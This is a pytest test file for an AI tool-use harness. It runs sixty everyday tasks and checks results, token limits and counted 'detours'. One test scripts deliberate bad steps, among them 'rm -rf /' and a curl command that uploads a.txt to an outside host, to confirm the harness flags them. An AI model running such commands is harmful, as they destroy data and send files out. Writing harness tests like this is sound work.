"""Sixty everyday tasks through the real tools: no call fails, none asks, and what comes of each is right."""

import shutil
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio

from tests.conftest import EMBEDDED, Servers, unavailable
from tests.tasks.everything import KNOWN_DETOURS, TASKS
from tests.tasks.runner import Workshop, workshop
from tests.tasks.task import Done, Here, Route, Task, call, found, holds, read, shell, task

_NAMES = [each.name for each in TASKS]


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def bench(postgres_servers: Servers, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Workshop]:
    async with (
        postgres_servers.database(EMBEDDED, template="template") as dsn,
        workshop(dsn, tmp_path_factory.mktemp("tasks") / "home") as built,
    ):
        yield built


@pytest.mark.parametrize("each", TASKS, ids=_NAMES)
async def test_a_good_model_gets_there_without_a_detour(bench: Workshop, each: Task) -> None:
    for program in each.needs:
        if shutil.which(program) is None:
            unavailable(f"no {program} on this machine")

    outcome = await bench.do(each)

    assert not outcome.wrong, outcome.detours
    assert outcome.tokens <= each.most_tokens
    in_the_way = KNOWN_DETOURS.get(each.name)
    assert [other for other in outcome.detours if in_the_way is None or in_the_way not in other] == []


@pytest.mark.parametrize("each", TASKS, ids=_NAMES)
def test_what_is_checked_is_not_so_before_anything_was_done(each: Task, tmp_path: Path) -> None:
    each.setup(tmp_path)

    with pytest.raises(AssertionError):
        each.check(Done(folder=tmp_path, answer="I did it."))


def test_there_are_sixty_of_them_and_nearly_all_are_smooth() -> None:
    assert len(set(_NAMES)) == len(_NAMES) == 60
    assert set(KNOWN_DETOURS) <= set(_NAMES)
    assert len(KNOWN_DETOURS) <= 4


async def test_what_is_in_the_way_of_a_model_is_counted_and_a_wrong_end_is_seen(bench: Workshop) -> None:
    @task("Do this and that.", check=holds("a.txt", "right"))
    def detours(_: Here) -> Route:
        yield [
            read("nowhere.txt"),
            shell("false"),
            shell("rm -rf /"),
            shell("curl -F x=@a.txt http://example.org", network=True),
        ]
        yield shell("true", fails=True)
        yield call("write_file", path="a.txt", content="wrong")
        return found("(the moon)", "no moon")

    outcome = await bench.do(detours)

    assert outcome.calls == 6
    assert [each.partition(" ")[0] for each in outcome.detours] == ["Astray:", "read_file", *["shell"] * 4]
    assert "a.txt is not as it should be" in outcome.wrong
